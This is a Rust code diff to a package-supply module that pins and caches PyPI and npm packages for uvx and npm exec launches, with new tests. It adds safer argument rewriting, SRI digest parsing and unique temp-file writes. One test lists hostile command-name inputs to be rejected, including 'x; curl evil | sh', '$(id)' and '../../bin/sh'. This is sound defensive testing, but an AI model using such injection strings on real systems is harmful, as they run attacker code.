@@ -345,7 +345,9 @@ impl Supply {
             if s.download {
                 // uv is handed the checked file itself where it can reach it.
                 let kept = match &s.files {
-                    Some(dir) if package.via.starts_with("uv") => Some(Kept {
+                    // With extras (`pkg[cli]`) uv must resolve the name: a
+                    // file alone would drop them; the version is pinned instead.
+                    Some(dir) if package.via.starts_with("uv") && !package.unversioned.contains('[') => Some(Kept {
                         path: kept_path(dir, "pypi", &file.sha256.to_ascii_lowercase(), &file.filename)?,
                         command: Some(
                             package.unversioned.split('[').next().unwrap_or(&package.unversioned).to_string(),
@@ -461,13 +463,25 @@ fn rewrite_to(spec: &mut LaunchSpec, packages: &[Package], pinned: &[Pinned]) ->
 }
 
 /// Puts `kept` in place of `package` on `line` as a whole argument; false
-/// when it is written where a file cannot go (in a comma list, or
-/// positional with no known command).
+/// when it is written where a file cannot go (in a comma list, after `--`,
+/// or positional with no known command). Only its first occurrence is the
+/// package: a later one is an argument of the server's own.
 fn hand_file(line: &mut Vec<String>, package: &Package, kept: &Kept) -> bool {
-    let is_value = |a: &String| a.split_once('=').is_some_and(|(f, v)| f.starts_with('-') && v == package.written);
-    let Some(at) = line.iter().skip(1).position(|a| *a == package.written || is_value(a)).map(|i| i + 1) else {
+    let value = |a: &str| -> Option<String> {
+        a.split_once('=').filter(|(f, _)| f.starts_with('-')).map(|(_, v)| v.to_string())
+    };
+    let in_list = |a: &String| {
+        let v = value(a).unwrap_or_else(|| a.clone());
+        v.contains(',') && v.split(',').any(|item| item.trim() == package.written)
+    };
+    let is_value = |a: &String| value(a).is_some_and(|v| v == package.written);
+    let Some(at) = line.iter().skip(1).position(|a| *a == package.written || is_value(a) || in_list(a)).map(|i| i + 1)
+    else {
         return false;
     };
+    if in_list(&line[at]) || line[1..at].iter().any(|a| a == "--") {
+        return false;
+    }
     let file = kept.path.display().to_string();
     let with = match line[at].split_once('=') {
         Some((flag, _)) if line[at] != package.written => vec![flag.to_string(), file],
@@ -482,10 +496,14 @@ fn hand_file(line: &mut Vec<String>, package: &Package, kept: &Kept) -> bool {
     true
 }
 
-/// A digest as a directory name: an SRI string's base64 made URL-safe
-/// (`sha512-ab+/=` → `sha512-ab-_`).
+/// A digest as a directory name: an SRI string's first hash (a string may
+/// list several, each with `?options`), its base64 made URL-safe
+/// (`sha512-ab+/=` → `sha512-ab-_`). The file is checked against the whole
+/// string; one hash names it.
 fn digest_key(digest: &str) -> String {
-    digest.trim_end_matches('=').replace('+', "-").replace('/', "_")
+    let first = digest.split_whitespace().next().unwrap_or_default();
+    let hash = first.split('?').next().unwrap_or_default();
+    hash.trim_end_matches('=').replace('+', "-").replace('/', "_")
 }
 
 /// Where the checked file `filename` of `registry` with digest `key` is
@@ -516,8 +534,15 @@ fn keep(path: &Path, bytes: &[u8]) -> Result<(), SupplyError> {
     };
     let dir = path.parent().ok_or_else(|| failed(std::io::Error::other("no directory")))?;
     std::fs::create_dir_all(dir).map_err(failed)?;
-    let partial = dir.join(format!(".partial-{}", std::process::id()));
-    std::fs::write(&partial, bytes).and_then(|()| std::fs::rename(&partial, path)).map_err(failed)
+    // Unique per write: two starts of one package keep it at once.
+    static WRITES: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+    let n = WRITES.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+    let partial = dir.join(format!(".partial-{}-{n}", std::process::id()));
+    let written = std::fs::write(&partial, bytes).and_then(|()| std::fs::rename(&partial, path));
+    if written.is_err() {
+        let _ = std::fs::remove_file(&partial);
+    }
+    written.map_err(failed)
 }
 
 /// Whether `url` is on the registry at `base` (same scheme, host and
@@ -700,6 +725,22 @@ mod tests {
         ];
         assert_eq!(rewrite_to(&mut spec, &packages, &pinned), [false, false, false]);
         assert_eq!(spec.process.unwrap().command[1..], ["--with", "httpx==1,anyio==1", "mcp-server-time@1"]);
+
+        // ... and the server's own argument of the same name is not it.
+        let mut spec = test_spec("uvx --with httpx,anyio mcp-server-time --backend anyio", None, &[]);
+        let packages = crate::policy::what_runs(&spec).unwrap().packages;
+        assert_eq!(rewrite_to(&mut spec, &packages, &pinned), [false, false, false]);
+        assert_eq!(
+            spec.process.unwrap().command[1..],
+            ["--with", "httpx==1,anyio==1", "mcp-server-time@1", "--backend", "anyio"]
+        );
+
+        // After `--`, uv and npm exec read no more options: `--from` would be the command.
+        let mut spec = test_spec("uvx -- mcp-server-time", None, &[]);
+        let packages = crate::policy::what_runs(&spec).unwrap().packages;
+        let pinned = [pypi("mcp-server-time", Some(kept("/k/t-1-py3-none-any.whl", Some("mcp-server-time"))))];
+        assert_eq!(rewrite_to(&mut spec, &packages, &pinned), [false]);
+        assert_eq!(spec.process.unwrap().command[1..], ["--", "mcp-server-time@1"]);
     }
 
     #[test]
@@ -724,6 +765,10 @@ mod tests {
         );
         assert_eq!(resolved(serde_json::json!({"a": "a.js", "b": "b.js"})), None, "npm exec cannot choose");
         assert_eq!(resolved(serde_json::Value::Null), None, "no command at all");
+        // The document is not signed, and npm exec runs the name through a shell.
+        for bad in ["x; curl evil | sh", "--call=sh", "-c", "$(id)", "a b", "../../bin/sh", ""] {
+            assert_eq!(resolved(serde_json::json!({ bad: "cli.js" })), None, "{bad:?} is no command name");
+        }
     }
 
     #[test]
@@ -742,6 +787,9 @@ mod tests {
         }
         assert_eq!(digest_key("sha512-ab+/cd=="), "sha512-ab-_cd");
         assert!(kept_path(dir, "npm", &digest_key("sha512-ab+/cd=="), "x-1.0.0+build.tgz").is_ok());
+        // An SRI string may list several hashes, with options: the first names the file.
+        assert_eq!(digest_key("sha512-ab+/cd==?opt sha384-xy"), "sha512-ab-_cd");
+        assert!(kept_path(dir, "npm", &digest_key(" sha512-ab== sha256-cd="), "x-1.tgz").is_ok());
     }
 
     #[test]
